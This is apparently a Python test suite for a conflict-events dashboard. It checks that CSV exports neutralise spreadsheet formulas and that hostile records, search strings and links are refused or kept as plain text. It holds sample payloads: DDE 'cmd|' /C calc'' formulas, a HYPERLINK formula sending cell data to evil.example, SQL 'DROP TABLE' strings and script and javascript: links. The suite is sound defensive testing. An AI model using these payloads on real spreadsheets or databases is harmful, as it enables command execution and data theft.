"""Hostile data, files and links, short of a browser: nothing executes, nothing is stored
half-checked, and every refusal names the row and the column.

Covers spreadsheet formulas in CSV exports (OWASP's list), hostile records through
``store.insert_records`` (the store path without the importer), hostile search text, and
property tests that throw arbitrary values at the record schema and the URL codec.
"""

from __future__ import annotations

import csv
import io
import json
import math
import re
import shutil
from datetime import date

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from dashboard import cli, facets, hotcopy, importer, store, urlstate
from dashboard.export import to_csv
from dashboard.filters import MAX_TEXT as URL_MAX_TEXT
from dashboard.filters import MAX_VALUES, Filters
from dashboard.query import EventQuery
from dashboard.schema import MAX_TEXT, TEXT_COLUMNS, RecordError, validate_record
from tests import oracle

#: OWASP's list of characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
ARABIC = "هجوم على سجن غويران في الحسكة"
MID_CR = 'note\r=HYPERLINK("http://evil.example/","x")'
MID_LF = "line\n@SUM(1+1)*cmd|' /C calc'!A0"
#: Columns a spreadsheet may show as numbers; a leading minus there is a negative number.
NUMERIC = {"latitude", "longitude", "fatalities", "fatalities_low", "fatalities_high"}


def hostile_record(i: int, payload: str) -> dict:
    record = {
        "event_id": f"formula-{i}",
        "event_date": "2023-03-0" + str(1 + i % 9),
        "event_type": "statement",
        "actors": [payload, "ISIS"],
        "country": "MAR",
        "latitude": -0.5 - i % 10,  # south of the equator: a legitimate negative number
        "longitude": -7.98,
        "fatalities": 3,
        "sources": [{"publisher": payload, "url": "https://example.org/a", "language": "en"}],
    }
    for column in TEXT_COLUMNS:
        record[column] = payload
    record["title_ar"] = payload if i % 2 else "-" + ARABIC
    return record


@pytest.fixture(scope="module")
def template(tmp_path_factory):
    return store.ensure_store(tmp_path_factory.mktemp("tpl") / "events.duckdb")


@pytest.fixture()
def store_copy(template, tmp_path):
    path = tmp_path / "events.duckdb"
    shutil.copyfile(template, path)
    return path


@pytest.fixture(scope="module")
def formula_store(tmp_path_factory, template):
    path = tmp_path_factory.mktemp("formula") / "events.duckdb"
    shutil.copyfile(template, path)
    records = [hostile_record(i, p) for i, p in enumerate(PAYLOADS)]
    records.append({**hostile_record(99, "plain"), "title_ar": ARABIC, "title": "plain"})
    # a line break inside a cell must not start a new row whose first cell is a formula
    records.append({**hostile_record(98, "plain"), "title": MID_CR, "summary": MID_LF})
    assert store.insert_records(path, records) == []
    return path, {r["event_id"]: r for r in records}


def exported_rows(path, tmp_path, capsys, query="from=2023-03-01&to=2023-03-31") -> list[dict]:
    out = tmp_path / "out.csv"
    assert cli.main(["export", "--query", query, "-o", str(out), "--store", str(path)]) == 0
    capsys.readouterr()
    text = out.read_bytes().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_no_csv_cell_can_start_a_formula(formula_store, tmp_path, capsys):
    path, records = formula_store
    rows = exported_rows(path, tmp_path, capsys)
    assert {r["event_id"] for r in rows} >= set(records)
    checked = 0
    for row in rows:
        assert None not in row and None not in row.values(), f"a cell broke its row: {row}"
        for column, cell in row.items():
            checked += 1
            if cell.startswith(FORMULA_STARTS):
                assert column in NUMERIC, (column, cell)
                assert math.isfinite(float(cell)), (column, cell)
    assert checked > len(PAYLOADS) * 20
    mid = next(r for r in rows if r["event_id"] == "formula-98")
    assert (mid["title"], mid["summary"]) == (MID_CR, MID_LF)  # one cell each, kept whole


def test_text_is_kept_exactly_behind_one_apostrophe(formula_store, tmp_path, capsys):
    path, records = formula_store
    rows = {r["event_id"]: r for r in exported_rows(path, tmp_path, capsys)}
    for i, payload in enumerate(PAYLOADS):
        row = rows[f"formula-{i}"]
        for column in TEXT_COLUMNS:
            if column in row and column != "title_ar":
                assert row[column] == "'" + payload, column
        assert row["actors"] == "'" + payload.strip() + "; ISIS"  # names are trimmed on entry
        # A source's publisher is a cell of its own, neutralised like every text cell.
        assert row["source_count"] == "1" and "sources" not in row
        assert row["source_1_publisher"] == "'" + payload


def test_arabic_and_negative_numbers_are_untouched(formula_store, tmp_path, capsys):
    path, _ = formula_store
    rows = {r["event_id"]: r for r in exported_rows(path, tmp_path, capsys)}
    assert rows["formula-99"]["title_ar"] == ARABIC
    assert rows["formula-0"]["title_ar"] == "'-" + ARABIC  # a leading minus is still neutralised
    assert rows["formula-2"]["latitude"] == "-2.5"
    assert rows["formula-2"]["longitude"] == "-7.98"
    assert rows["formula-2"]["fatalities"] == "3"


def test_negative_numbers_stay_numbers_in_any_numeric_column():
    import pandas as pd

    frame = pd.DataFrame(
        {
            "event_id": ["a", "b"],
            "fatalities": pd.array([-4, 2], dtype="Int64"),
            "latitude": [-33.9, 12.5],
            "title": ["-4 killed, corrected", "نص عربي"],
        }
    )
    rows = list(csv.DictReader(io.StringIO(to_csv(frame).decode("utf-8-sig"), newline="")))
    assert [r["fatalities"] for r in rows] == ["-4", "2"]
    assert [r["latitude"] for r in rows] == ["-33.9", "12.5"]
    assert [r["title"] for r in rows] == ["'-4 killed, corrected", "نص عربي"]


def test_an_export_reimports_to_the_same_text(formula_store, tmp_path, capsys):
    path, records = formula_store
    out = tmp_path / "out.csv"
    query = "from=2023-03-01&to=2023-03-31"
    assert cli.main(["export", "--query", query, "-o", str(out), "--store", str(path)]) == 0
    capsys.readouterr()
    fresh = tmp_path / "fresh.duckdb"
    result = importer.import_file(out, fresh)
    assert result.accepted == len(records), [str(p) for p in result.problems]
    from dashboard import curation

    for event_id, record in records.items():
        back = curation.get_event(fresh, event_id)
        for column in ("title", "summary", "notes", "evidence", "title_ar"):
            assert back[column] == record[column], (event_id, column)


# --------------------------------------------------------------------------- hostile records


def good(i: int = 1, **changes) -> dict:
    return {
        "event_id": f"hostile-{i}",
        "event_date": "2023-01-02",
        "event_type": "statement",
        "title": "synthetic test row",
        "country": "SYR",
        "latitude": 35.0,
        "longitude": 38.0,
        "sources": [{"url": "https://example.org/x"}],
        **changes,
    }


MEGABYTE = "x" * 1_048_576

HOSTILE_ROWS = [
    ("latitude 999", {"latitude": 999}, "latitude", "outside -90..90"),
    ("longitude -999", {"longitude": -999}, "longitude", "outside -180..180"),
    ("latitude NaN beside a longitude", {"latitude": float("nan")}, "latitude", "together"),
    ("latitude infinite", {"latitude": float("inf")}, "latitude", "outside"),
    ("latitude text", {"latitude": "35N"}, "latitude", "not a number"),
    ("megabyte title", {"title": MEGABYTE}, "title", f"longer than {MAX_TEXT}"),
    ("megabyte summary", {"summary": MEGABYTE}, "summary", "longer than"),
    ("megabyte actor", {"actors": [MEGABYTE]}, "actors", "longer than"),
    ("megabyte source url", {"sources": [{"url": MEGABYTE}]}, "sources.url", "longer than"),
    ("megabyte related id", {"related": [MEGABYTE]}, "related", "longer than"),
    ("megabyte event type", {"event_type": MEGABYTE}, "event_type", "not one of"),
    ("thousands of actors", {"actors": ["a"] * 5000}, "actors", "more than"),
    ("control chars in id", {"event_id": "bad\x1b[31mid"}, "event_id", "not a valid id"),
    ("RTL override in id", {"event_id": "evil\u202egnp.exe"}, "event_id", "not a valid id"),
    ("NUL in country", {"country": "SY\x00R"}, "country", "ISO 3166"),
    ("impossible date", {"event_date": "2022-02-30"}, "event_date", "not a date"),
    ("year 9999", {"event_date": "9999-12-31"}, "event_date", "between 1900 and 2100"),
    ("year 1", {"event_date": "0001-01-01"}, "event_date", "between 1900 and 2100"),
    ("end before start", {"end_date": "2022-01-01"}, "end_date", "before"),
    ("fatalities beyond 32 bits", {"fatalities": 10**12}, "fatalities", "larger than"),
    ("negative fatalities", {"fatalities": -5}, "fatalities", "negative"),
    ("formula as type", {"event_type": "=cmd|' /C calc'!A0"}, "event_type", "not one of"),
    ("SQL as country", {"country": "SYR'; DROP TABLE events; --"}, "country", "ISO 3166"),
    ("source is text", {"sources": "https://example.org"}, "sources", "expected a list"),
    ("no source", {"sources": []}, "sources", "at least one"),
]


@pytest.mark.parametrize(
    ("change", "column", "words"), [c[1:] for c in HOSTILE_ROWS], ids=[c[0] for c in HOSTILE_ROWS]
)
def test_a_hostile_row_is_refused_naming_row_and_column(store_copy, change, column, words):
    before = store.info(store_copy)
    problems = store.insert_records(store_copy, [good(1), good(2, **change), good(3)])
    assert [(p.row, p.column) for p in problems] == [(2, column)]
    assert words in problems[0].message
    assert len(str(problems[0])) < 300  # a megabyte cell does not make a megabyte message
    after = store.info(store_copy)
    assert after["events"] == before["events"] + 2  # the good rows, and only they


def test_a_batch_of_only_bad_rows_leaves_the_store_untouched(store_copy):
    before = (store.info(store_copy), store.store_version(store_copy))
    rows = [good(i, **change) for i, (_, change, _, _) in enumerate(HOSTILE_ROWS)]
    problems = store.insert_records(store_copy, rows)
    assert [p.row for p in problems] == list(range(1, len(HOSTILE_ROWS) + 1))
    assert (store.info(store_copy), store.store_version(store_copy)) == before


def test_a_duplicate_id_in_the_batch_is_named_by_row(store_copy):
    before = store.info(store_copy)["events"]
    problems = store.insert_records(store_copy, [good(1), good(2), good(1, title="again")])
    assert [(p.row, p.column) for p in problems] == [(3, "event_id")]
    assert "also row 1" in problems[0].message
    assert store.info(store_copy)["events"] == before + 2


def test_an_id_already_stored_refuses_the_whole_batch(store_copy):
    before = (store.info(store_copy), store.store_version(store_copy))
    with pytest.raises(store.StoreError, match="ref-2022-05-11-marrakesh-meeting"):
        store.insert_records(
            store_copy, [good(1), good(2, event_id="ref-2022-05-11-marrakesh-meeting")]
        )
    assert (store.info(store_copy), store.store_version(store_copy)) == before


def test_text_with_controls_and_direction_marks_is_kept_as_characters(store_copy):
    from dashboard import curation

    title = "evil\u202egnp.exe \u200f<script>alert(1)</script> \x1b[2J ${x} {{y}}"
    assert store.insert_records(store_copy, [good(1, title=title, notes="a\x00b")]) == []
    stored = curation.get_event(store_copy, "hostile-1")
    assert stored["title"] == title  # stored as typed; shown as text everywhere
    assert stored["notes"] == "ab"  # NUL is the one character dropped


# --------------------------------------------------------------------------- hostile search


@pytest.fixture(scope="module")
def query(template):
    return EventQuery(hotcopy.load(template).engine())


@pytest.mark.parametrize(
    "text",
    ["%", "_", "%%", "' OR '1'='1", "'); DROP TABLE events; --", ".*", "[a-z]+", "\\", "*"],
)
def test_search_text_is_matched_literally(query, template, text):
    """A wildcard, a quote or a regular expression is only the characters it is: the rows
    are those whose text holds them literally (a "%" in a source's address, say)."""
    every = oracle.frame(template)
    assert query.count(Filters(text=text)) == len(oracle.select(every, Filters(text=text)))
    assert query.count(Filters(actors=(text,))) == len(
        oracle.select(every, Filters(actors=(text,)))
    )
    assert query.count(Filters()) == 76  # and the table is still there


# --------------------------------------------------------------------------- property tests

#: Values a file or a JSON body could carry in any field.
anything = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(min_value=-(2**70), max_value=2**70)
    | st.floats(allow_nan=True, allow_infinity=True)
    | st.text(max_size=50)
    | st.sampled_from(
        ["", "2022-02-30", "9999-12-31", "SYR", "meeting", "day", MEGABYTE[: MAX_TEXT + 1]]
        + [2**31 - 1, 2**31, -(2**31), 10**12, 1e300, -0.0, "NaN", "1e5", " 7 "]
    )
    | st.dates(),
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4)
    ),
    max_leaves=8,
)
FIELDS = [
    "event_id",
    "event_date",
    "end_date",
    "date_precision",
    "event_type",
    "title",
    "title_ar",
    "actors",
    "country",
    "latitude",
    "longitude",
    "geo_precision",
    "fatalities",
    "fatalities_low",
    "sources",
    "related",
    "verification",
    "machine_coded",
]


@settings(max_examples=400)
@given(st.dictionaries(st.sampled_from(FIELDS), anything, min_size=1, max_size=2))
def test_any_record_is_stored_or_refused_with_a_column(overrides):
    """Whatever a reader hands over, validation refuses it naming a column, or what it
    accepts can be written to the store (the insert cannot fail on a value)."""
    raw = good(1, **overrides)
    try:
        record = validate_record(raw)
    except RecordError as exc:
        assert exc.column.split(".")[0] in {*FIELDS, "sources", "title"}
        assert len(str(exc)) < 300
        return
    table = store.rows_to_arrow([store.stored_row(record)])
    assert table.num_rows == 1
    assert 1900 <= record["event_date"].year <= 2100


numbers = (
    st.integers(min_value=-(2**70), max_value=2**70)
    | st.floats(allow_nan=True, allow_infinity=True)
    | st.sampled_from([2**31 - 1, 2**31, -(2**31), 10**12, 1e300, -0.0, "NaN", "1e5", " 7 "])
    | st.integers().map(str)
)


@settings(max_examples=300)
@given(
    st.sampled_from(["latitude", "fatalities", "fatalities_low", "fatalities_high"]),
    numbers,
)
def test_any_number_is_stored_or_refused_with_its_column(column, value):
    raw = good(1, **{column: value})
    if column == "latitude":
        raw["longitude"] = value
    try:
        record = validate_record(raw)
    except RecordError as exc:
        assert exc.column in (column, "longitude")
        return
    assert store.rows_to_arrow([store.stored_row(record)]).num_rows == 1


hostile_text = st.text(
    # everything but lone surrogates, which no decoded URL can hold
    alphabet=st.characters(exclude_categories=("Cs",)),
    max_size=300,
) | st.sampled_from(
    [
        "' OR '1'='1",
        "<script>alert(1)</script>",
        "\u202e",
        "%00",
        "\x00",
        "\ufffd",
        "a" * (URL_MAX_TEXT + 1),
        "2022-02-30",
        "99999-01-01",
        "NaN",
        "inf",
        "1e400",
    ]
)
keys = st.sampled_from([*urlstate.KEYS, "colour", "", "country[]", "__proto__", "q\x00"])


@settings(max_examples=400)
@given(st.lists(st.tuples(keys, hostile_text), max_size=80))
def test_any_link_decodes_to_a_clean_state(pairs):
    state, notices = urlstate.decode(pairs, is_country=lambda c: c in {"SYR", "IRQ"})
    f = state.filters
    assert len(f.countries) <= MAX_VALUES and len(f.actors) <= MAX_VALUES
    assert all(len(a) <= URL_MAX_TEXT for a in f.actors) and len(f.text) <= URL_MAX_TEXT
    for day in (f.date_from, f.date_to):
        assert day is None or date(1900, 1, 1) <= day <= date(2100, 12, 31)
    if f.date_from and f.date_to:
        assert f.date_from <= f.date_to
    # what the page writes back is a link that opens the same view without a word
    again, again_notices = urlstate.decode(urlstate.query_string(state), is_country=lambda c: True)
    assert again_notices == [] and again == state
    assert set(urlstate.encode(state)) <= set(urlstate.KEYS)
    # and no value reaches the SQL text: values are parameters only (places and sub-types
    # reach it as the stored values they pick, hostile ones here, as parameters too)
    sql, params = f.where(picked=facets.Picked(("' OR 1=1 --",), ("x';",), ('"; DROP',)))
    assert "'" not in sql and '"' not in sql and "--" not in sql and ";" not in sql
    assert sql.count("?") == len(params)
    for notice in notices:
        assert len(str(notice)) < 200


@settings(max_examples=300)
@given(st.text(alphabet="%=&+;?#abcDEF0123456789\u00e9\u202e\x00 ", max_size=400))
def test_any_raw_query_string_decodes(query):
    state, _ = urlstate.decode(query)
    assert set(urlstate.encode(state)) <= set(urlstate.KEYS)


# --------------------------------------------------------------------------- round two: files
# Each reproduction of issue 18 (a red-team pass with files this suite did not hold): the
# file ends "imported", "imported with rejected rows" or refused in one sentence, and the
# exit status says which (0, 1, 2); never a traceback.

DEEP = "[" * 1200 + '"a]\\""' + "]" * 1200  # deeper than Python's recursion limit
DEEP_CELL = '"' + DEEP.replace('"', '""') + '"'  # the same as one quoted CSV cell
HUGE = "9" * 400  # an integer a float cannot hold
ENORMOUS = "9" * 5000  # an integer Python will not even convert from text
NATIVE = {
    "event_id": "ok-1",
    "event_date": "2022-05-11",
    "event_type": "meeting",
    "title": "synthetic test row",
    "country": "MAR",
    "sources": [{"publisher": "P", "url": "https://example.org/a"}],
}
CSV_HEAD = (
    "event_id,event_date,event_type,title,country,sources,actors,latitude,longitude,fatalities"
)


def _jsonl(*records: str) -> str:
    return "\n".join(records) + "\n"


def _with(record: dict, key: str, raw: str) -> str:
    """A JSON record whose ``key`` holds ``raw`` JSON text (too deep or long for json.dumps)."""
    return json.dumps({**record, key: "@@"}).replace('"@@"', raw)


def _feature(props, geometry=None) -> str:
    return json.dumps({"type": "Feature", "geometry": geometry, "properties": props})


def _collection(*features: str) -> str:
    return '{"type": "FeatureCollection", "features": [' + ", ".join(features) + "]}"


LAST = json.dumps({**NATIVE, "event_id": "ok-2"})
LAST_FEATURE = _feature({**NATIVE, "event_id": "ok-2"})
BAD_FILES = [
    # name, text, (column, words) of the bad row
    ("deep.jsonl", _jsonl(_with(NATIVE, "actors", DEEP), LAST), ("(line)", "nested more than")),
    ("deep.json", f"[{_with(NATIVE, 'actors', DEEP)}, {LAST}]", ("(record)", "nested more than")),
    (
        "deep-source.jsonl",
        _jsonl(_with(NATIVE, "sources", "[" * 40 + "{}" + "]" * 40), LAST),
        ("(line)", "nested more than"),
    ),
    (
        "deep-actors.csv",
        f"{CSV_HEAD}\nok-1,2022-05-11,meeting,t,MAR,https://example.org,{DEEP_CELL},,,\n"
        f"ok-2,2022-05-11,meeting,t,MAR,https://example.org,,,,\n",
        ("actors", "nested more than"),
    ),
    (
        "deep-sources.csv",
        f"{CSV_HEAD}\nok-1,2022-05-11,meeting,t,MAR,{DEEP_CELL},,,,\n"
        f"ok-2,2022-05-11,meeting,t,MAR,https://example.org,,,,\n",
        ("sources", "nested more than"),
    ),
    ("huge-lat.jsonl", _jsonl(_with(NATIVE, "latitude", HUGE), LAST), ("latitude", "outside")),
    ("huge-lon.json", f"[{_with(NATIVE, 'longitude', HUGE)}, {LAST}]", ("longitude", "outside")),
    (
        "huge-deaths.jsonl",
        _jsonl(_with(NATIVE, "fatalities", HUGE), LAST),
        ("fatalities", "larger than"),
    ),
    (
        "enormous.jsonl",
        _jsonl(_with(NATIVE, "fatalities", ENORMOUS), LAST),
        ("(line)", "4,300 digits"),
    ),
    (
        "enormous.json",
        f"[{_with(NATIVE, 'fatalities', ENORMOUS)}, {LAST}]",
        ("(record)", "4,300 digits"),
    ),
    (
        "huge.csv",
        f"{CSV_HEAD}\nok-1,2022-05-11,meeting,t,MAR,https://example.org,,{HUGE},1,\n"
        f"ok-2,2022-05-11,meeting,t,MAR,https://example.org,,,,\n",
        ("latitude", "not a number"),
    ),
    (
        "coords-number.geojson",
        _collection(_feature(NATIVE, {"type": "Point", "coordinates": 5}), LAST_FEATURE),
        ("geometry", "not a number"),
    ),
    (
        "coords-object.geojson",
        _collection(_feature(NATIVE, {"type": "Point", "coordinates": {"x": 1}}), LAST_FEATURE),
        ("geometry", "not an object"),
    ),
    (
        "props-list.geojson",
        _collection(_feature([1, 2]), LAST_FEATURE),
        ("properties", "not a list"),
    ),
    (
        "props-text.geojson",
        _collection(_feature("event_id=x"), LAST_FEATURE),
        ("properties", "not a text"),
    ),
    (
        "deep.geojson",
        _collection(_with({"type": "Feature", "properties": NATIVE}, "bbox", DEEP), LAST_FEATURE),
        ("(feature)", "nested more than"),
    ),
    (
        "lone-surrogate.jsonl",  # valid JSON, no text: it used to fail the whole file's write
        _jsonl(_with(NATIVE, "title", '"a\\ud800b"'), LAST),
        ("title", "half of a character"),
    ),
    (
        "geometry-text.geojson",
        _collection(_feature(NATIVE, "POINT(1 2)"), LAST_FEATURE),
        ("geometry", "not a text"),
    ),
]


@pytest.fixture()
def cli_import(store_copy, tmp_path, capsys):
    """Run ``import`` on a text file; (exit status, stdout, stderr). A traceback fails here."""

    def run(name: str, data: str | bytes, *extra: str):
        path = tmp_path / name
        path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
        code = cli.main(["import", str(path), "--store", str(store_copy), "--quiet", *extra])
        out, err = capsys.readouterr()
        assert "Traceback" not in err
        return code, out, err

    return run


@pytest.mark.parametrize(("name", "text", "expected"), BAD_FILES, ids=[f[0] for f in BAD_FILES])
def test_a_value_no_check_expected_costs_its_row_and_not_the_file(
    cli_import, store_copy, name, text, expected
):
    before = store.info(store_copy)["events"]
    code, out, err = cli_import(name, text)
    column, words = expected
    assert code == 1, err  # done, with rejected rows
    rejected = [line for line in err.splitlines() if line.startswith("rejected: ")]
    assert len(rejected) == 1, err
    assert f"column {column}:" in rejected[0] and words in rejected[0], rejected[0]
    assert len(rejected[0]) < 300
    assert "imported 1 of 2 rows" in out  # the row after the bad one was read and stored
    assert store.info(store_copy)["events"] == before + 1


@pytest.mark.parametrize("encoding", ["rot13", "hex", "base64", "undefined", "no-such-codec"])
def test_an_encoding_that_is_no_text_encoding_is_refused_in_one_line(
    cli_import, store_copy, encoding
):
    before = store.info(store_copy)
    code, _, err = cli_import("enc.jsonl", _jsonl(LAST), "--encoding", encoding)
    assert code == 2
    assert err.startswith("error: unknown text encoding") and err.count("\n") == 1
    assert store.info(store_copy) == before


def test_an_unwritable_report_is_refused_before_anything_is_imported(
    cli_import, store_copy, tmp_path
):
    before = store.info(store_copy)
    report = tmp_path / "no-such-folder" / "report.csv"
    bad = _jsonl(_with(NATIVE, "latitude", "999"), LAST)
    code, out, err = cli_import("r.jsonl", bad, "--report", str(report))
    assert code == 2 and "cannot write the report" in err and out == ""
    assert store.info(store_copy) == before


def test_a_report_that_fails_at_the_write_leaves_the_store_as_it_was(
    cli_import, store_copy, tmp_path, monkeypatch
):
    """The report is written before the commit: if the disk refuses it then, nothing is
    imported (exit 2), instead of an import that committed and then crashed."""
    from dashboard import export

    def refuse(data, target):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(export, "write_atomic", refuse)
    before = store.info(store_copy)
    bad = _jsonl(_with(NATIVE, "latitude", "999"), LAST)
    code, out, err = cli_import("r.jsonl", bad, "--report", str(tmp_path / "report.csv"))
    assert code == 2 and "No space left on device" in err and "nothing was imported" in err
    assert store.info(store_copy) == before


def test_a_report_is_on_disk_when_the_import_commits(cli_import, tmp_path):
    report = tmp_path / "report.csv"
    bad = _jsonl(_with(NATIVE, "latitude", "999"), LAST)
    code, out, _ = cli_import("r.jsonl", bad, "--report", str(report))
    assert code == 1 and "imported 1 of 2 rows" in out
    rows = list(csv.DictReader(io.StringIO(report.read_bytes().decode("utf-8-sig"))))
    assert [(r["row"], r["column"]) for r in rows] == [("1", "latitude")]


# --------------------------------------------------------------------------- strict parsing

STRICT = [
    # (field, value, words): each used to be taken as something else
    ("event_date", "2022-05-05garbage", "not a date"),
    ("event_date", "2022-W10-1", "not a date"),
    ("event_date", "20220505", "not a date"),
    ("event_date", "2022-05-05 12:00 and more", "not a date"),
    ("end_date", "2022-05-06xyz", "not a date"),
    ("latitude", True, "true/false"),
    ("latitude", False, "true/false"),
    ("latitude", "1_0", "not a number"),
    ("latitude", "1\u00a0N", "not a number"),
    ("latitude", "infinity", "not a number"),
    ("fatalities", "1_0", "not a whole number"),
    ("fatalities", True, "true/false"),
    ("fatalities", int(HUGE), "larger than"),
    ("fatalities", HUGE, "not a whole number"),
    ("latitude", int(HUGE), "outside"),
]


@pytest.mark.parametrize(("column", "value", "words"), STRICT)
def test_values_that_only_look_like_dates_or_numbers_are_refused(column, value, words):
    raw = good(1, **{column: value})
    if column == "latitude":
        raw["longitude"] = 1.0
    with pytest.raises(RecordError) as caught:
        validate_record(raw)
    assert caught.value.column == column and words in caught.value.message


@pytest.mark.parametrize(
    ("column", "value", "expected"),
    [
        ("event_date", "2022-05-05", date(2022, 5, 5)),
        ("event_date", " 2022-05-05 ", date(2022, 5, 5)),
        ("event_date", "2022-05-05T00:00:00", date(2022, 5, 5)),
        ("event_date", "2022-05-05 14:30:00.000", date(2022, 5, 5)),
        ("event_date", "2022-05-05T14:30:00Z", date(2022, 5, 5)),
        ("latitude", "35.5", 35.5),
        ("latitude", "-1e1", -10.0),
        ("latitude", " 7 ", 7.0),
        ("fatalities", "12", 12),
        ("fatalities", 12.0, 12),
        ("fatalities", "NaN", None),
    ],
)
def test_the_written_forms_that_are_accepted(column, value, expected):
    raw = good(1, **{column: value})
    if column == "latitude":
        raw["longitude"] = 1.0
    assert validate_record(raw)[column] == expected


def test_excel_true_and_false_are_not_coordinates(tmp_path):
    from openpyxl import Workbook

    from dashboard import importer

    book = Workbook()
    sheet = book.active
    sheet.append(
        ["event_id", "event_date", "event_type", "title", "sources", "latitude", "longitude"]
    )
    sheet.append(["x-1", "2022-05-05", "meeting", "t", "https://example.org", True, False])
    sheet.append(["x-2", "2022-05-05", "meeting", "t", "https://example.org", 1.5, 2.5])
    path = tmp_path / "bools.xlsx"
    book.save(path)
    result = importer.import_file(path, tmp_path / "s.duckdb", dry_run=True)
    assert result.accepted == 1
    assert [(p.row, p.column) for p in result.problems] == [(2, "latitude")]
    assert "true/false" in result.problems[0].message


def test_acled_cells_read_numbers_strictly(tmp_path):
    from dashboard.sources.tabular import CellError, number

    for text in ("1_0", "0x10", "infinity", "1e400", "\u0661", "1,5"):
        with pytest.raises(CellError):
            number(text)
    assert number(" -3.25 ") == -3.25 and number("") is None


# --------------------------------------------------------------------------- export round trips

INVISIBLE_FORMULAS = [
    " =1+1",
    "  +cmd|' /C calc'!A0",
    '\u00a0=HYPERLINK("http://evil.example")',
    "\u200b=1+1",
    "\ufeff@SUM(1)",
    "\u2060-2+3",
    "\u3000=1",
    "'=already protected by its author",
    "''=two apostrophes",
    "' =apostrophe and a space",
]


@pytest.mark.parametrize("text", INVISIBLE_FORMULAS)
def test_formulas_behind_spaces_invisibles_and_apostrophes_are_neutralised(text):
    import pandas as pd

    cell = next(
        csv.DictReader(io.StringIO(to_csv(pd.DataFrame({"title": [text]})).decode("utf-8-sig")))
    )
    assert cell["title"] == "'" + text


ROUND_TRIP = {
    "title": INVISIBLE_FORMULAS,
    "actors": [
        ["Ministry; Foreign Affairs", "ISIS"],
        ["[unknown]"],
        ["NA"],
        ["-"],
        ["none"],
        ["=cmd", "b"],
        ['say "hi"', "x\\y"],
    ],
    "related": [["a;b"], ["ref-1", "ref-2"]],
    # Sources are CSV columns of their own (source_1_publisher, ...): each cell neutralised
    # and read back as written, however it looks.
    "sources": [
        [{"publisher": '=HYPERLINK("http://evil.example")', "url": "+cmd|' /C calc'!A0"}],
        [{"publisher": "NA", "url": ""}, {"publisher": "-", "language": "none"}],
        [{"publisher": '[{"publisher": "not JSON to us"}]', "url": "https://x.example/?a=1;b=2"}],
        [{"publisher": " padded ", "url": "\u200b@SUM(1)", "published": "2022-05-11"}],
        [{}, {"publisher": "after an empty source"}],
    ],
}


@pytest.mark.parametrize("fmt", ["csv", "geojson", "parquet"])
def test_every_hostile_text_and_list_round_trips_through_each_export(tmp_path, fmt):
    import pandas as pd

    from dashboard import export, importer
    from dashboard.schema import COLUMNS

    records = []
    for i, title in enumerate(ROUND_TRIP["title"]):
        records.append(validate_record(good(i, title=title, summary=title, notes=title)))
    for i, actors in enumerate(ROUND_TRIP["actors"]):
        records.append(validate_record(good(100 + i, actors=actors)))
    for i, related in enumerate(ROUND_TRIP["related"]):
        records.append(validate_record(good(200 + i, related=related)))
    for i, sources in enumerate(ROUND_TRIP["sources"]):
        records.append(validate_record(good(300 + i, sources=sources)))
    path = tmp_path / f"export.{fmt}"
    path.write_bytes(export.render(pd.DataFrame(records, columns=list(COLUMNS)), fmt))
    fresh = tmp_path / "fresh.duckdb"
    result = importer.import_file(path, fresh)
    assert result.accepted == len(records), [str(p) for p in result.problems]
    from dashboard import curation

    for record in records:
        back = curation.get_event(fresh, record["event_id"])
        for column in ("title", "summary", "notes", "actors", "related", "sources"):
            assert back[column] == record[column], (record["event_id"], column)


def test_parquet_keeps_dates_as_dates_and_empty_columns_typed():
    import pandas as pd
    import pyarrow as pa
    import pyarrow.parquet as pq

    from dashboard import export
    from dashboard.schema import COLUMNS

    record = validate_record(good(1))  # no end date, no fatalities, no actors, no related
    for rows in ([record], []):
        data = export.render(pd.DataFrame(rows, columns=list(COLUMNS)), "parquet")
        schema = pq.read_schema(io.BytesIO(data))
        assert schema.field("event_date").type == pa.date32()
        assert schema.field("end_date").type == pa.date32()
        assert schema.field("fatalities").type == pa.int64()
        assert schema.field("latitude").type == pa.float64()
        assert schema.field("actors").type == pa.list_(pa.string())
        assert schema.field("title_ar").type == pa.string()
        assert not any(pa.types.is_null(f.type) for f in schema), schema


# --------------------------------------------------------------------------- text sinks

#: Streamlit's Markdown (GitHub's flavour) autolinks in the text *after* escapes are undone:
#: mdast-util-gfm-autolink-literal's expressions, and the ":name:" of icons and emoji.
GFM_LINKS = [
    re.compile(r"(https?://|www(?=\.))([-.\w]+)", re.IGNORECASE),
    re.compile(r"([-.\w+]+)@([-\w]+(?:\.[-\w]+)+)"),
    re.compile(r":[\w/+-]+:"),
]
MARKDOWN_PAYLOADS = [
    "![p](http://host.example/x.png)",
    "see www.evil.example now",
    "WWW.EVIL.EXAMPLE",
    "http://host.example/a?b=c",
    "https://host.example",
    "<http://host.example>",
    "[click](javascript:alert(1))",
    "write to spy@evil.example",
    ":red[alarm] :material/warning: :smile:",
    "# heading\n---\n> quote",
    "$x^2$ **bold** _it_ `code`",
    "&lt;b&gt; <b>x</b>",
]


def _unescaped(md: str) -> str:
    """The text Markdown leaves after undoing backslash escapes."""
    return re.sub(r"\\(.)", r"\1", md)


@pytest.mark.parametrize("text", MARKDOWN_PAYLOADS)
def test_md_escape_leaves_no_link_image_or_icon(text):
    from dashboard.text import WORD_JOINER, md_escape

    md = md_escape(text)
    plain = _unescaped(md)
    for pattern in GFM_LINKS:
        assert not pattern.search(plain), (pattern.pattern, md)
    assert not re.search(r"(?<!\\)[\[\]()!<>*_`$#:&]", md), md  # every special one escaped
    assert plain.replace(WORD_JOINER, "") == text.replace("\n", " ")  # reads the same


@settings(max_examples=500)
@given(st.text(alphabet=st.sampled_from(list("wW.:/@htps!()[]<>x \\:_*")), max_size=60))
def test_md_escape_never_leaves_an_autolink(text):
    from dashboard.text import WORD_JOINER, md_escape

    plain = _unescaped(md_escape(text))
    for pattern in GFM_LINKS:
        assert not pattern.search(plain), (text, plain)
    assert plain.replace(WORD_JOINER, "") == text


@pytest.mark.parametrize(
